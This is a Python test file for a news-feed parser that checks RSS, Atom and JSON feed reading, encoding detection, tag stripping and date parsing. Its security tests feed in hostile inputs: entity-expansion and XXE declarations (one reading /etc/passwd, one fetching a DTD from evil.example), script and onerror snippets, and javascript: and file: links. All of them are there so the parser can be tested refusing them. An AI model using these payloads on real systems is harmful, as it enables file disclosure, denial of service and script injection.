"""Feeds as they are and as nobody should write them."""

import datetime as dt
import json
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from causeway.news.items.domain import Kind as Item
from causeway.news.parsing.answers import Answer, Asked, Unreadable
from causeway.news.parsing.charsets import Hostile, decoded
from causeway.news.parsing.kinds import FORMATS, addresses
from causeway.news.parsing.moments import moment
from causeway.news.parsing.words import plain, shortened
from causeway.news.sources.domain import Kind


def read(body, kind=Kind.FEED, content_type="", url="https://news.example/feed", **asked):
    return list(FORMATS[kind].read(Asked(kind, **asked), Answer(body, url, content_type)))


def rss(items, head='<?xml version="1.0" encoding="UTF-8"?>'):
    return f'{head}<rss version="2.0"><channel><title>Example</title>{items}</channel></rss>'


ITEM = """<item><title>Schools &amp;amp; services</title><link>/a?b=1</link><guid isPermaLink="false">g1</guid>
<pubDate>Mon, 30 Nov 2026 12:00:00 +0100</pubDate>
<description><![CDATA[<p onclick="x()">Waits<script>steal()</script> <b>grow</b>.</p><img src=x onerror=alert(1)>]]></description></item>"""


def test_an_item_of_rss_is_plain_words_with_a_whole_address():
    (found,) = read(rss(ITEM).encode(), outlet="The Example")
    assert (found.key, found.title, found.outlet, found.kind) == ("g1", "Schools & services", "The Example", Item.ARTICLE)
    assert found.address == "https://news.example/a?b=1"
    assert found.extract == "Waits grow."
    assert found.published_at == dt.datetime(2026, 11, 30, 11, tzinfo=dt.UTC)


def test_an_entry_of_atom():
    body = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>x</title><entry><id>tag:1</id>
<title type="html">A &amp;lt;b&amp;gt;bold&amp;lt;/b&amp;gt; claim</title>
<link rel="alternate" href="https://news.example/1"/><updated>2026-11-30T12:00:00.1234567Z</updated><summary>Short.</summary></entry></feed>"""
    (found,) = read(body)
    assert (found.title, found.address, found.extract) == ("A bold claim", "https://news.example/1", "Short.")
    assert found.published_at.date() == dt.date(2026, 11, 30)


def test_an_item_of_a_json_feed():
    body = {
        "version": "https://jsonfeed.org/version/1.1",
        "items": [{"id": 7, "url": "https://e.example/7", "title": "T", "content_html": "<p>x</p>"}],
    }
    (found,) = read(json.dumps(body).encode())
    assert (found.key, found.title, found.extract) == ("7", "T", "x")


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (rss("<item><title>Café “ö”</title><link>https://e.example/1</link></item>").encode(), ""),
        (rss("<item><title>Café “ö”</title><link>https://e.example/1</link></item>").encode("cp1252"), ""),  # it lies
        (
            rss(
                "<item><title>Café “ö”</title><link>https://e.example/1</link></item>",
                '<?xml version="1.0" encoding="iso-8859-1"?>',
            ).encode("cp1252"),
            "",
        ),
        (
            rss(
                "<item><title>Café “ö”</title><link>https://e.example/1</link></item>", '<?xml version="1.0" encoding="utf-16"?>'
            ).encode("utf-16"),
            "",
        ),
        (
            rss("<item><title>Café “ö”</title><link>https://e.example/1</link></item>", "").encode("cp1252"),
            "text/xml; charset=windows-1252",
        ),
        (
            rss("<item><title>Café “ö”</title><link>https://e.example/1</link></item>", "").encode(),
            "text/xml; charset=iso-8859-1",
        ),
        (b"\xef\xbb\xbf" + rss("<item><title>Café “ö”</title><link>https://e.example/1</link></item>").encode(), ""),
    ],
)
def test_letters_are_what_was_meant_whatever_the_answer_says_of_itself(body, content_type):
    (found,) = read(body, content_type=content_type)
    assert found.title == "Café “ö”"


def test_a_broken_feed_is_read_by_the_forgiving_parser():
    body = b"<rss version='2.0'><channel><item><title>One & two</title><link>https://e.example/1</link><description>a <br> b</item></rss>"
    (found,) = read(body)
    assert found.address == "https://e.example/1"


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>',
        '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        '<!doctype foo [ <!entity % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>',
        '<!DOCTYPE foo [<!ATTLIST item a CDATA "b">]>',
    ],
)
def test_a_document_type_with_declarations_is_refused_before_any_parser(head, monkeypatch):
    monkeypatch.setattr("fastfeedparser.parse", lambda _raw: pytest.fail("a parser was asked"))
    for encoding in ("utf-8", "utf-16", "utf-32"):
        with pytest.raises(Hostile, match="entities"):
            read((head + rss(ITEM, "")).encode(encoding))


def test_a_mere_document_type_is_taken_off():
    head = '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    assert len(read(rss(ITEM, head).encode())) == 1


def test_a_tag_of_thousands_of_attributes_is_refused_at_once():
    attributes = " ".join(f'a{n}="x"' for n in range(100_000))
    began = time.monotonic()
    with pytest.raises(Hostile, match="attributes"):
        read(rss(f"<item {attributes}><title>a</title></item>").encode())
    assert time.monotonic() - began < 2


def test_a_long_article_with_many_links_in_it_is_no_attack():
    links = "".join(f'&lt;a href="https://e.example/{n}"&gt;x&lt;/a&gt; ' for n in range(1000))
    assert (
        len(
            read(rss(f"<item><title>a</title><link>https://e.example/1</link><description>{links}</description></item>").encode())
        )
        == 1
    )


@pytest.mark.parametrize(
    "body", [b"", b"   ", b"<!doctype html><html><body>Not found</body></html>", b"plain words", b"\x00\xff" * 99, b"{"]
)
def test_what_is_no_feed_is_refused_with_a_sentence(body):
    with pytest.raises((Unreadable, Hostile), match=r"\.$"):
        read(body)


@pytest.mark.parametrize("link", ["javascript:alert(1)", "data:text/html,x", "http://[", "file:///etc/passwd", "http://a b/", ""])
def test_an_item_that_leads_to_no_web_page_is_none(link):
    items = f"<item><title>x</title><link>{link}</link><guid isPermaLink='false'>q:1</guid></item>"
    assert read(rss(items).encode(), url="") == []


def test_a_saved_search_asks_for_its_query_and_parts_title_and_outlet():
    title = "<title>Waits grow - The Example Post</title>"
    items = f"<item>{title}<link>https://e.example/1</link><description>Waits grow The Example Post</description></item>"
    (found,) = read(rss(items).encode(), kind=Kind.SEARCH)
    assert (found.title, found.outlet, found.extract) == ("Waits grow", "The Example Post", "")
    asked = Asked(Kind.SEARCH, address="https://news.example/rss?q={query}&hl=en", query='"speech therapy" & waits')
    assert addresses(asked, dt.date(2026, 11, 30)) == ["https://news.example/rss?q=%22speech+therapy%22+%26+waits&hl=en"]


@pytest.mark.parametrize(
    "text", ["", "yesterday", "2026-13-45", "9999-01-01T00:00:00Z", "0001-01-01", "Mon, 99 Foo 2026", "20261" * 30, None, 7]
)
def test_a_date_that_is_none_is_none(text):
    assert moment(text) is None


@given(
    st.binary(max_size=400), st.sampled_from(["", "text/xml; charset=utf-8", "charset=rot13", "charset=zip", "charset=utf-16-le"])
)
def test_any_bytes_have_some_text(body, content_type):
    assert "\0" not in decoded(body, content_type)


@settings(max_examples=200)
@given(st.text(max_size=300))
def test_words_have_no_tags_however_they_were_escaped(text):
    wrapped = f"<p>{text.replace('<', '').replace('&', '')}</p>"
    for _ in range(2):
        assert "<p>" not in plain(wrapped)
        wrapped = wrapped.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


@given(st.text(alphabet="ab .!“”", max_size=500), st.integers(20, 300))
def test_an_extract_is_never_longer_than_it_may_be(text, limit):
    assert len(shortened(text, limit)) <= limit
